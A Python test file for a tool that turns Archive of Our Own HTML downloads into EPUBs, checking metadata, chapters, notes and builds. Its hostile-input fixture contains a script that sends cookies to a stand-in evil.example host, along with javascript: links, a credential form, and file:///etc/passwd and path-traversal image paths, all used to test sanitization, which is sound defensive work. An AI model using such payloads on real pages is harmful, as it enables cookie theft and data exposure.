"""AO3 HTML downloads: three layouts asserted field by field, built into valid EPUBs, and hostile
content dropped."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from bookmaker import convert, readers
from bookmaker.errors import ManuscriptError
from bookmaker.model import (Emph, FootnoteRef, Footnote, ListBlock, SceneBreak,
                             Series, Text, plain_text, to_json)
from bookmaker.readers.html import ao3 as ao3html

DATA = Path(__file__).parent.parent / "data" / "ao3html"
CASES = sorted(path.name for path in DATA.iterdir() if (path / "input.html").exists())


def load(case: str):
    return convert.load(DATA / case / "input.html")


def texts(blocks) -> list[str]:
    return [plain_text((block,)).strip() if not isinstance(block, SceneBreak) else "<break>"
            for block in blocks]


@pytest.mark.parametrize("case", CASES)
def test_model_matches_golden(case: str, golden) -> None:
    golden.check(DATA / case / "expected.json", to_json(load(case)))


@pytest.mark.parametrize("case", CASES)
def test_sniffing_picks_the_ao3_reader(case: str) -> None:
    assert readers.reader_for(DATA / case / "input.html").load() is ao3html


def test_new_layout_metadata() -> None:
    m = load("multi-chapter-2024").metadata
    assert m.title == "The Long Way Round"
    assert m.authors == ("lanternfish", "Corvid_Writes")
    assert m.rating == "Mature"
    assert m.warnings == ("Graphic Depictions Of Violence", "Major Character Death")
    assert m.content_notes == ()
    assert m.categories == ("M/M", "Gen")
    assert m.fandoms == ("Final Fantasy VII",)
    assert m.relationships == ("Genesis Rhapsodos/Sephiroth",)
    assert m.characters == ("Genesis Rhapsodos", "Sephiroth (Compilation of FFVII)",
                            "Angeal Hewley")
    assert m.tags == ("Angst", "Canon Divergence", "Rain, So Much Rain")
    assert m.language == "en"
    assert m.series == (Series("Wings of the Goddess", 2.0), Series("Rainverse", 5.0))
    assert (m.published, m.updated) == ("2024-01-15", "2024-03-02")
    assert m.source_url == "https://archiveofourown.org/works/48213377"
    assert texts(m.summary) == ["Three left. Then two.", "Then the rain."]
    assert m.summary[0].children[1] == Emph((Text("two"),))


def test_new_layout_chapters_notes_and_afterword() -> None:
    book = load("multi-chapter-2024")
    assert [c.title for c in book.chapters] == ["Three Left", "Chapter 2", "Chapter 3: Aftermath"]
    first, second, third = book.chapters
    assert texts(first.blocks) == ["There were only three left. Three.",
                                   "Genesis counted them again.", "<break>",
                                   "Rain was pelting down when he woke."]
    assert texts(first.summary) == ["Where it starts."]
    assert texts(first.notes) == ["Short one, sorry."]
    assert texts(first.end_notes) == ["Next week: more rain."]
    assert (second.summary, second.notes, second.end_notes) == ((), (), ())
    assert texts(second.blocks)[1] == "<break>"
    assert texts(third.end_notes) == ["To be continued."]
    assert first.line == 64 and first.blocks[0].line == 75
    assert texts(book.front_matter)[0] == "Beware the angst. Thanks to my beta!"
    assert isinstance(book.front_matter[1], ListBlock)
    assert "Inspired by A Smaller Storm by someone" in texts(book.front_matter)[1]
    assert texts(book.back_matter) == ["Thank you for reading!", "Works inspired by this one:",
                                       "Sunshine After by fan"]


def test_single_chapter_2021_singular_labels_no_language() -> None:
    book = load("single-chapter-2021")
    m = book.metadata
    assert (m.title, m.authors, m.rating) == ("Small Hours", ("nightjar",), "General Audiences")
    assert m.warnings == ("No Archive Warnings Apply",)
    assert m.categories == ("M/M",)
    assert m.characters == ("Aziraphale (Good Omens)", "Crowley (Good Omens)")
    assert m.series == (Series("Soho Nights", 1.0),)
    # No Language line: left unset, so bookmaker.toml's [book] language (else English) applies.
    assert (m.published, m.updated, m.language) == ("2021-06-01", None, None)
    assert m.source_url == "http://archiveofourown.org/works/31234567"
    assert len(book.chapters) == 1 and book.chapters[0].title == ""
    # &nbsp; paragraph, remote divider image and centred xxx are breaks; the trailing gap is not.
    assert texts(book.chapters[0].blocks) == [
        "The shop was closed, of course.", "<break>", "Crowley knocked anyway.", "<break>",
        "Aziraphale opened at once.", "<break>", "Cocoa followed."]
    assert book.front_matter == () and book.back_matter == ()


def test_old_layout_2016_without_preface() -> None:
    book = load("old-layout-2016")
    m = book.metadata
    assert (m.title, m.authors, m.rating) == ("Ashes, Ashes", ("quillfeather",), "Explicit")
    assert m.warnings == ("Creator Chose Not To Use Archive Warnings", "Underage Sex")
    assert m.categories == ("F/M", "Multi")
    assert m.fandoms == ("Harry Potter - J. K. Rowling",)
    assert m.tags == ("Post-War", "Hurt/Comfort")
    assert (m.published, m.updated, m.series) == ("2016-02-29", "2016-04-10", ())
    assert texts(m.summary) == ["After the war, the Burrow is very quiet."]
    assert texts(book.front_matter) == ["Written for the 2016 exchange."]
    assert texts(book.back_matter) == ["Come say hi on tumblr!"]
    embers, phoenix = book.chapters
    assert (embers.title, phoenix.title) == ("Embers", "Phoenix")
    assert texts(phoenix.summary) == ["Something grows back."]
    assert texts(phoenix.blocks) == ["In spring the garden came back.", "<break>", "So did they."]
    # A Calibre/FanFicFare-style note: the marker links forward to a paragraph with its id.
    assert embers.blocks[0].children[-2] == FootnoteRef("fn1")
    note = embers.blocks[-1]
    assert isinstance(note, Footnote) and note.id == "fn1"
    assert texts(note.blocks) == ["Molly never let anyone else do it."]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every case built once into an EPUB (EPUBChecked at the end of the session)."""
    out = tmp_path_factory.mktemp("ao3html-epubs")
    results = convert.build([DATA / case / "input.html" for case in CASES], out_dir=out)
    assert [r.error for r in results] == [None] * len(CASES)
    return {case: result.outputs[0] for case, result in zip(CASES, results, strict=False)}


def test_every_case_builds_with_its_tags(built: dict[str, Path]) -> None:
    with zipfile.ZipFile(built["multi-chapter-2024"]) as epub:
        pages = "".join(epub.read(name).decode() for name in epub.namelist()
                        if name.endswith(".xhtml"))
    assert "Major Character Death" in pages and "Genesis Rhapsodos/Sephiroth" in pages
    assert "Thank you for reading!" in pages


HOSTILE = """<!DOCTYPE html><html><head><title>Bad - x - y</title>
<script>document.location='http://evil.example/'+document.cookie</script></head><body>
<div id="preface"><p class="message"><b>Bad</b><br/>Posted originally on the Archive of Our Own at
<a href="https://archiveofourown.org/works/1">https://archiveofourown.org/works/1</a>.</p>
<div class="meta"><dl class="tags"><dt>Rating:</dt><dd><a href="#">Not Rated</a></dd>
<dt>Stats:</dt><dd>Published: 2020-01-01 Words: 5 Chapters: 1/1</dd></dl>
<h1>Bad</h1><div class="byline">by <a rel="author" href="#">x</a></div></div></div>
<div id="chapters" class="userstuff"><div class="userstuff">
<p onclick="steal()" onmouseover="steal()">Click <a href="javascript:alert(1)">here</a>.</p>
<iframe src="https://evil.example/"></iframe><object data="x.swf"></object>
<form action="https://evil.example/"><input name="password"/><button>Go</button></form>
<p><img src="file:///etc/passwd" alt="secret"/><img src="../../outside.png"/>Safe text.</p>
<svg><script>alert(2)</script></svg><style>p { color: red }</style>
</div></div></body></html>"""


def test_hostile_content_is_dropped(tmp_path: Path) -> None:
    path = tmp_path / "hostile.html"
    path.write_text(HOSTILE, encoding="utf-8")
    book = readers.read(path)
    dump = to_json(book)
    for bad in ("javascript", "evil", "onclick", "steal", "password", "alert", "passwd",
                "color", "swf", "file:"):
        assert bad not in dump
    blocks = book.chapters[0].blocks
    assert texts(blocks[:2]) == ["Click here.", "Safe text."]
    assert [b.src for b in blocks[2:]] == ["../../outside.png"]
    # The relative image is kept for the asset policy, which refuses it at build time.
    out = tmp_path / "out"
    [result] = convert.build([path], out_dir=out)
    assert result.error is None and "outside" in result.warnings[0]


def test_a_page_without_tags_is_refused_clearly(tmp_path: Path) -> None:
    path = tmp_path / "not-ao3.html"
    path.write_text("<p>Posted originally on the Archive of Our Own, id=\"preface\"</p>",
                    encoding="utf-8")
    with pytest.raises(ManuscriptError) as error:
        readers.read(path)
    assert error.value.path == str(path) and "not an AO3 download" in error.value.message
    assert readers.findings(path)[0].level == "error"
